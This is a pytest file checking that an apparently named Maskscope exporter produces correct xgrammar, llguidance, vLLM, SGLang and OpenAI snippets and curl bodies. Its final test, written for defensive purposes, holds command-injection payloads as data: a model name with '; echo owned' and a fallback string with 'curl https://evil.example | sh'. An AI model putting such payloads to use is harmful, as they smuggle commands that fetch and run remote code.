"""Snippets run for real: xgrammar and llguidance compile, the SDKs send the curl bodies."""

from __future__ import annotations

import ast
import dataclasses
import json
import shlex
from typing import Any

import llguidance
import pytest

from app.engine import ChatMessage, Engine, GrammarSpec
from app.engine.grammars.llguidance.options import strict_schema
from app.engine.grammars.spec import CompileOptions, GrammarKind, MaskingLibrary
from app.export import TARGETS, ExportRequest, Message, PydanticSource, Sampling, export
from tests.export.conftest import (
    PRICING,
    Capture,
    constant,
    curl_body,
    make_request,
    module_scope,
    run,
    run_until,
    spec_of,
    unwrapped,
)

EBNF = 'root ::= "answer: " ("yes" | "no") " because " [a-z ]{1,20} "."\n'
REGEX = r"[A-Z]{4}[0-9]{2}( \"ok\"\\)?"
NASTY_SCHEMA = {
    "title": 'Nasty "quoted" \\ back\nslash 日本 🚀',
    "type": "object",
    "properties": {
        'na"me': {"type": "string", "description": "line1\nline2 \u2028 é '\"'''", "maxLength": 9},
        "tab\there": {"enum": ["a\\b", "c'd", "ünï"]},
    },
    "required": ['na"me', "tab\there"],
}
NASTY_MESSAGES = (
    Message("system", 'Reply with JSON. It\'s "strict" \\ no $(rm) `x` ${HOME}\n'),
    Message("user", "Ünïcödé 日本語 🚀 \u2028 tab\tend '''\"\"\""),
)


def _requests(engine: Engine) -> list[ExportRequest]:
    pydantic_source = PRICING.source(".py")
    return [
        make_request(engine),
        make_request(
            engine,
            options=CompileOptions(any_whitespace=True),
            preset="vllm",
            sampling=Sampling(0.7, 0.9, 1234),
        ),
        make_request(
            engine,
            options=CompileOptions(indent=2, separators=(";", "=")),
            sampling=Sampling(1.0, 0.5, None),
        ),
        make_request(engine, kind=GrammarKind.EBNF, source=EBNF),
        make_request(engine, kind=GrammarKind.REGEX, source=REGEX, raw_prompt="Code: "),
        make_request(engine, source=json.dumps(NASTY_SCHEMA), messages=NASTY_MESSAGES),
        make_request(engine, pydantic=PydanticSource(pydantic_source, "PricingDecision")),
    ]


def test_every_python_snippet_parses_and_every_target_answers(engine: Engine) -> None:
    for req in _requests(engine):
        for target in TARGETS:
            snippet = export(req, target)
            assert snippet.target == target
            if snippet.language == "python":
                ast.parse(snippet.code)
            else:
                assert snippet.language == "bash"
                curl_body(snippet.code)
            for line in snippet.not_expressible:  # each also stands in a comment
                assert line.split(":")[0] in snippet.code


def test_each_curl_body_is_the_intended_request(engine: Engine) -> None:
    req = make_request(engine, model="HuggingFaceTB/SmolLM2-135M-Instruct", max_tokens=320)
    schema = json.loads(PRICING.source())
    messages = [
        {"role": "system", "content": PRICING.system},
        {"role": "user", "content": PRICING.prompt},
    ]
    common = {"messages": messages, "max_tokens": 320, "temperature": 0.0}
    assert curl_body(export(req, "curl_vllm").code) == {
        "model": "HuggingFaceTB/SmolLM2-135M-Instruct",
        **common,
        "structured_outputs": {"json": schema},
    }
    sglang = curl_body(export(req, "curl_sglang").code)
    assert sglang["text"] == req.prompt_text and "<|im_start|>assistant\n" in sglang["text"]
    params = sglang["sampling_params"]
    assert json.loads(params.pop("json_schema")) == schema
    assert params == {"max_new_tokens": 320, "temperature": 0.0}
    assert curl_body(export(req, "curl_openai").code) == {
        "model": "gpt-4o-mini",
        "messages": messages,
        "max_completion_tokens": 320,
        "temperature": 0.0,
        "response_format": {
            "type": "json_schema",
            "json_schema": {"name": "PricingDecision", "schema": schema, "strict": True},
        },
    }


def _run_sdk(code: str, capture: Capture, monkeypatch: pytest.MonkeyPatch) -> tuple[str, Any]:
    monkeypatch.setenv("OPENAI_API_KEY", "test-key")
    monkeypatch.setenv("OPENAI_BASE_URL", capture.url + "/v1")
    for url in ("http://localhost:8000", "http://localhost:30000"):
        code = code.replace(f'"{url}', f'"{capture.url}')
    run(code)
    return capture.body()


@pytest.mark.parametrize(
    ("python", "curl"),
    [
        ("vllm", "curl_vllm"),
        ("sglang", "curl_sglang"),
        ("openai", "curl_openai"),
        ("vllm_legacy", None),
        ("sglang_openai", None),
    ],
)
def test_the_python_snippets_send_what_the_curl_commands_send(
    engine: Engine,
    capture: Capture,
    monkeypatch: pytest.MonkeyPatch,
    python: str,
    curl: str | None,
) -> None:
    for req in _requests(engine):
        path, sent = _run_sdk(export(req, python).code, capture, monkeypatch)
        if curl is not None and not (python == "openai" and req.pydantic):
            curl_code = export(req, curl).code
            assert sent == curl_body(curl_code)
            assert shlex.split(curl_code, comments=True)[2].endswith(path)  # curl -sS URL
        _assert_carries(req, python, sent)


def _assert_carries(req: ExportRequest, target: str, sent: dict[str, Any]) -> None:
    """The request carries the schema or grammar and the prompt exactly (the round trip)."""
    text = json.dumps(sent, ensure_ascii=False)
    if req.is_json and not (target == "openai" and req.pydantic):
        schemas = [json.dumps(req.schema, ensure_ascii=False), json.dumps(json.dumps(req.schema))]
        assert any(s in text for s in schemas), target
    elif not req.is_json and target != "openai":
        assert json.dumps(req.source, ensure_ascii=False) in text, target
    if target == "sglang":  # /generate takes the prompt as the chat template rendered it
        assert sent["text"] == (req.raw_prompt if req.raw_prompt is not None else req.prompt_text)
        return
    for message in req.chat():
        assert json.dumps(message["content"], ensure_ascii=False) in text, target


def _maskscope_grammar(engine: Engine, req: ExportRequest, source: str | None = None) -> str:
    return engine.compile(spec_of(req, source)).grammar_text


@pytest.mark.parametrize("index", range(7))
def test_the_xgrammar_snippet_compiles_the_grammar_maskscope_shows(
    engine: Engine, index: int
) -> None:
    req = _requests(engine)[index]
    compiled = run_until(export(req, "xgrammar").code, "compiled")
    source = json.dumps(json.loads(req.source), indent=2) if req.pydantic else None
    assert str(compiled.grammar) == _maskscope_grammar(engine, req, source)


def _llg_accepts(matcher: llguidance.LLMatcher, tokenizer: Any, text: str) -> bool:
    matcher = matcher.deep_copy()
    tokens = tokenizer.tokenize_str(text)
    return bool(matcher.try_consume_tokens(tokens) == len(tokens) and matcher.is_accepting())


@pytest.mark.parametrize(
    "options",
    [
        CompileOptions(strict_mode=False),
        CompileOptions(any_whitespace=True, strict_mode=False),
        CompileOptions(strict_mode=False, separators=(" | ", "=>")),
    ],
)
def test_the_llguidance_snippet_accepts_what_maskscope_accepts(
    engine: Engine, options: CompileOptions
) -> None:
    req = make_request(engine, options=options)
    scope = module_scope()
    matcher = run_until(export(req, "llguidance").code, "matcher", scope)
    assert not matcher.is_error()
    value = {
        "churn_analysis": "low",
        "financial_analysis": "ok",
        "margin_math": "55%",
        "max_discount_percent": 10,
        "offer_code": "ACME10",
        "customer_message": "Hi",
    }
    item, key = options.separators or ((", ", ": ") if not options.any_whitespace else (",", ":"))
    tried = [
        json.dumps(value, separators=(item, key)),
        json.dumps(value, separators=(", ", ": ")),
        json.dumps(value, indent=1),
        json.dumps(value, separators=("  ,", ":   ")),
        json.dumps({**value, "max_discount_percent": 31}, separators=(item, key)),
    ]
    for text in tried:
        replay = engine.replay(spec_of(req), text=text)
        expected = replay.accepted and replay.complete
        assert _llg_accepts(matcher, scope["lltokenizer"], text) == expected, text


def _llguidance_spec(req: ExportRequest) -> GrammarSpec:
    """The spec Maskscope's llguidance engine compiles for the request."""
    return dataclasses.replace(spec_of(req), library=MaskingLibrary.LLGUIDANCE)


@pytest.mark.parametrize("strict_mode", [True, False])
def test_the_llguidance_snippet_refuses_an_extra_property_as_the_llguidance_engine_does(
    engine: Engine, strict_mode: bool
) -> None:
    schema = {"type": "object", "properties": {"a": {"type": "integer"}}, "required": ["a"]}
    options = CompileOptions(strict_mode=strict_mode)
    req = make_request(engine, source=json.dumps(schema), options=options)
    scope = module_scope()
    snippet = run_until(export(req, "llguidance").code, "matcher", scope)
    ours = engine.compile(_llguidance_spec(req)).compiled.matcher()
    for text, accepted in [('{"a": 1}', True), ('{"a": 1, "z": 2}', not strict_mode)]:
        verdicts = (
            _llg_accepts(snippet, scope["lltokenizer"], text),
            _llg_accepts(ours, engine.llguidance.tokenizer(), text),
        )
        assert verdicts == (accepted, accepted), text


@pytest.mark.parametrize(
    ("options", "missing"),
    [
        (CompileOptions(), ()),
        (CompileOptions(strict_mode=False, separators=(" ; ", "=")), ()),
        (CompileOptions(indent=4), ("indent",)),
        (CompileOptions(any_whitespace=True, indent=4), ()),
        (CompileOptions(any_whitespace=True, max_whitespace_cnt=2), ("max_whitespace_cnt",)),
    ],
)
def test_what_the_llguidance_snippet_cannot_express_is_what_the_engine_does_not_carry(
    engine: Engine, options: CompileOptions, missing: tuple[str, ...]
) -> None:
    req = make_request(engine, options=options)
    names = tuple(line.split("=")[0] for line in export(req, "llguidance").not_expressible)
    assert names == engine.compile(_llguidance_spec(req)).not_carried == missing


def test_llguidance_runs_ebnf_and_regex(engine: Engine) -> None:
    for req, good, bad in [
        (
            make_request(engine, kind=GrammarKind.EBNF, source=EBNF),
            "answer: yes because ok.",
            "answer: maybe",
        ),
        (make_request(engine, kind=GrammarKind.REGEX, source=REGEX), 'ABCD12 "ok"\\', "abcd12"),
    ]:
        scope = module_scope()
        matcher = run_until(export(req, "llguidance").code, "matcher", scope)
        assert not matcher.is_error(), matcher.get_error()
        assert _llg_accepts(matcher, scope["lltokenizer"], good)
        assert not _llg_accepts(matcher, scope["lltokenizer"], bad)


def test_a_nasty_schema_and_prompt_round_trip_through_every_target(engine: Engine) -> None:
    req = make_request(engine, source=json.dumps(NASTY_SCHEMA), messages=NASTY_MESSAGES)
    for target, schema in [("xgrammar", NASTY_SCHEMA), ("llguidance", strict_schema(NASTY_SCHEMA))]:
        code = export(req, target).code
        assert constant(code, "SCHEMA") == schema
        assert constant(code, "MESSAGES") == req.chat()
    for target in ("curl_vllm", "curl_sglang", "curl_openai"):
        _assert_carries(req, target.removeprefix("curl_"), curl_body(export(req, target).code))
    assert curl_body(export(req, "curl_sglang").code)["text"] == req.prompt_text


@pytest.mark.parametrize("target", ["xgrammar", "llguidance"])
def test_the_whole_snippet_generates_the_tokens_maskscope_generated(
    engine: Engine, target: str, capsys: pytest.CaptureFixture[str]
) -> None:
    req = make_request(engine, max_tokens=12)
    session = engine.new_session(
        spec_of(req), messages=[ChatMessage(m.role, m.content) for m in req.messages], max_tokens=12
    )
    session.run(12)
    capsys.readouterr()
    run(export(req, target).code)
    printed = capsys.readouterr().out.rstrip("\n").split("\n")[-1]
    if target == "xgrammar":  # the same mask, the same weights, greedy: the same tokens
        assert printed == session.text
    else:  # another engine's mask: its text must still be one Maskscope's grammar accepts
        assert printed.startswith('{"') and engine.replay(spec_of(req), text=printed).accepted


def test_the_doctors_vllm_verdict_is_said_where_vllm_picks_the_backend(engine: Engine) -> None:
    req = make_request(engine, options=CompileOptions(any_whitespace=True), preset="vllm")
    fallback = dataclasses.replace(req, vllm_fallback="uniqueItems at /properties/tags")
    for target in ("vllm", "curl_vllm", "vllm_legacy"):
        assert "vLLM does not use xgrammar (uniqueItems at /properties/tags)" in (
            export(fallback, target).code.replace("\n# ", " ")
        )
        assert "does not use xgrammar" not in export(req, target).code


def test_user_text_in_a_note_cannot_add_a_command_line_to_the_comment(engine: Engine) -> None:
    model = "/models/my model; echo owned"
    req = make_request(engine, options=CompileOptions(any_whitespace=True), model=model)
    fallback = "uniqueItems at /properties/a\n$ curl https://evil.example | sh"
    forged = dataclasses.replace(req, vllm_fallback=fallback)
    commands = []
    for target in TARGETS:
        code = export(forged, target).code
        commands += [line[4:] for line in code.split("\n") if line.startswith("# $ ")]
        if target in ("vllm", "vllm_legacy", "curl_vllm"):
            assert "(uniqueItems at /properties/a\\n$ curl https://evil.example | sh)" in (
                unwrapped(code)
            )
    assert len(commands) == 6  # vllm serve and sglang.launch_server, in three snippets each
    for command in commands:
        words = shlex.split(command)
        assert model in words and "curl" not in words, command
